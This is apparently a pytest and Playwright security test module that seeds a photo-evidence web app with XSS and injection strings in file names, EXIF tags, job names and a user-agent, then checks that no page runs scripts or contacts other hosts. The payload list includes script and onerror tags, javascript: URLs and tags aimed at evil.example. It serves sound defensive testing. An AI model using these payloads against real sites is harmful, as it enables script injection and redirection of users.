"""S6: nothing that stands in evidence, or that people typed, ever runs in anybody's browser."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request
from tests import makers
from tests.support.walking import undocumented
from tests.support.web import Person, WebServer, web_server

MARKUP = (
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "\"><svg onload=alert(3)>", "' onmouseover=alert(4) autofocus onfocus=alert(4) x='",
    "</title></textarea></style><script>alert(5)</script>", "javascript:alert(6)",
    "{{7*7}}${7*7}<%= 7*7 %>", "<a href='//evil.example/'>x", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<iframe srcdoc='<script>1'>",
    "<div hx-get='//evil.example/' hx-trigger=load>", "<form action='//evil.example/'><button>",
    "\u202egpj.exe<b>", "&lt;script&gt;alert(8)&lt;/script&gt;",
)  # fmt: skip
_WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""


def write_hostile(folder: Path) -> None:
    """Pictures whose names, tags and folders are markup."""
    folder.mkdir()
    for number, text in enumerate(MARKUP):
        name = f"{number:02} {text}".replace("/", "\u2215")[:100] + ".jpg"
        tags = {
            "ImageDescription": text, "Make": f"M{text}", "Model": f"D{text}", "Artist": text,
            "Copyright": text, "Software": text, "UserComment": text,
            "DateTimeOriginal": "2019:05:04 10:00:00",
        }  # fmt: skip
        data = makers.jpeg_with_exif(
            (96, 64), number, **tags, **makers.gps_tags(46.5, 7.5 + number)
        )
        (folder / name).write_bytes(data)
    for number, data in enumerate(makers.markup_pictures().values()):
        (folder / f"maker {number}.jpg").write_bytes(data)
    for text in MARKUP[:4]:
        (folder / (text.replace("/", "\u2215") + ".cut.jpg")).write_bytes(makers.photo()[:2000])
    below = folder / MARKUP[0]
    below.mkdir()
    (below / "a.jpg").write_bytes(makers.photo(64, 64, 99))


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, cache: Path
) -> Iterator[tuple[WebServer, Person, dict[str, str]]]:
    """A server whose case is full of markup, its administrator, and ids for addresses."""
    root = tmp_path_factory.mktemp("hostile")
    write_hostile(root / "sources")
    with web_server(root / "case", root / "sources", cache, sign_up="open") as web:
        owner = web.administrator
        client = web.client(owner)
        job = web.job(owner, name=MARKUP[0] + MARKUP[1])
        client.patch(f"/api/v1/jobs/{job}", json={"description": "".join(MARKUP)})
        for text in MARKUP:
            web.job(owner, name=text or "x")
        web.run_job(job)
        friend = web.account("examiner", "O'Brien-Łukasz", "d'Ärg")
        client.put(f"/api/v1/jobs/{job}/shares", json={"email": friend.email})
        # A browser says anything of itself; sessions list it.
        strange = {"user-agent": MARKUP[1] + MARKUP[3]}
        body = {"email": owner.email, "password": owner.password}
        assert web.client(headers=strange).post("/auth/signin", json=body).status_code == 200
        pictures = client.get(f"/api/v1/jobs/{job}/pictures").json()["pictures"]
        assert len(pictures) >= len(MARKUP)
        ids = {
            "job_id": job, "image_id": str(pictures[0]["id"]), "user_id": friend.id,
            "session_id": "x", "invitation_id": "x", "provider": "x",
        }  # fmt: skip
        yield web, owner, ids


class Watched:
    """A page that notes whatever should not happen on it."""

    def __init__(self, web: WebServer, page: Page) -> None:
        self.page = page
        self.wrong: list[str] = []
        self._host = urlsplit(web.url).netloc
        page.add_init_script(_WATCH)
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("console", self._console)

    def _dialog(self, dialog: Any) -> None:
        self.wrong.append(f"a script ran: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in {"http", "https"} and parts.netloc != self._host:
            self.wrong.append(f"asked another host: {request.url}")

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.wrong.append(message.text)

    def visit(self, url: str) -> None:
        """Open an address, wait until it is quiet, and touch what reacts to touching."""
        self.page.goto(url)
        self.page.wait_for_load_state("networkidle" if "/jobs/" not in url else "load")
        self.page.wait_for_timeout(300)
        self.page.keyboard.press("Tab")
        for element in self.page.locator("main a, main button, main td").all()[:8]:
            if element.is_visible():
                element.hover(timeout=2000, force=True)
        self.wrong += self.page.evaluate("() => window.__violations")


def pages_with_addresses(ids: dict[str, str]) -> list[str]:
    """Every page of the application, some of them in several states."""
    found = [route.address(ids) for route in undocumented() if route.method == "GET"]
    about = f"/jobs/{ids['job_id']}"
    text = "%3Cimg%20src%3Dx%20onerror%3Dalert(9)%3E"
    states = [
        f"{about}/gallery?picture={ids['image_id']}", f"{about}/gallery?q={text}",
        f"{about}/gallery?camera={text}&town={text}&sort={text}", f"{about}/problems?text={text}",
        f"/users?text={text}", f"/sign-in?next={text}", f"/auth/reset?key={text}",
        f"/auth/invitation?key={text}", f"/{text}", f"/jobs/{text}", f"/auth/verify?key={text}",
    ]  # fmt: skip
    return [*found, *states]


def test_no_page_runs_what_stands_in_evidence(
    hostile: tuple[WebServer, Person, dict[str, str]], browser: Browser
) -> None:
    web, owner, ids = hostile
    wrong = {}
    with browser.new_context(viewport={"width": 1200, "height": 900}) as context:
        web.let_in(context, owner)
        for address in pages_with_addresses(ids):
            if address.startswith(("/auth/oauth", "/auth/first")):
                continue
            page = context.new_page()
            watched = Watched(web, page)
            watched.visit(web.url + address)
            if watched.wrong:
                wrong[address] = watched.wrong
            page.close()
    assert wrong == {}


def test_the_watch_itself_sees_scripts_and_violations(
    hostile: tuple[WebServer, Person, dict[str, str]], page: Page
) -> None:
    """Without this, a blind watch would call everything safe."""
    web, _, _ = hostile
    watched = Watched(web, page)
    page.goto(f"{web.url}/sign-in")
    page.evaluate("() => { const i = document.createElement('img'); document.body.append(i);"
                  " i.outerHTML = '<img src=x onerror=alert(1)>'; }")  # fmt: skip
    page.wait_for_timeout(300)
    assert any("script-src" in one for one in page.evaluate("() => window.__violations"))
    page.evaluate("() => alert(1)")
    assert any("a script ran" in one for one in watched.wrong)


def test_foreign_text_is_isolated_from_the_words_around_it(
    hostile: tuple[WebServer, Person, dict[str, str]], page: Page
) -> None:
    web, owner, _ = hostile
    web.let_in(page.context, owner)
    page.goto(f"{web.url}/jobs")
    names = page.locator("bdi.foreign")
    assert names.count() >= len(MARKUP)
    overridden = names.filter(has_text="\u202e")
    assert overridden.count() >= 1
    style = overridden.first.evaluate("one => getComputedStyle(one).unicodeBidi")
    assert style in {"isolate", "plaintext", "isolate-override"}
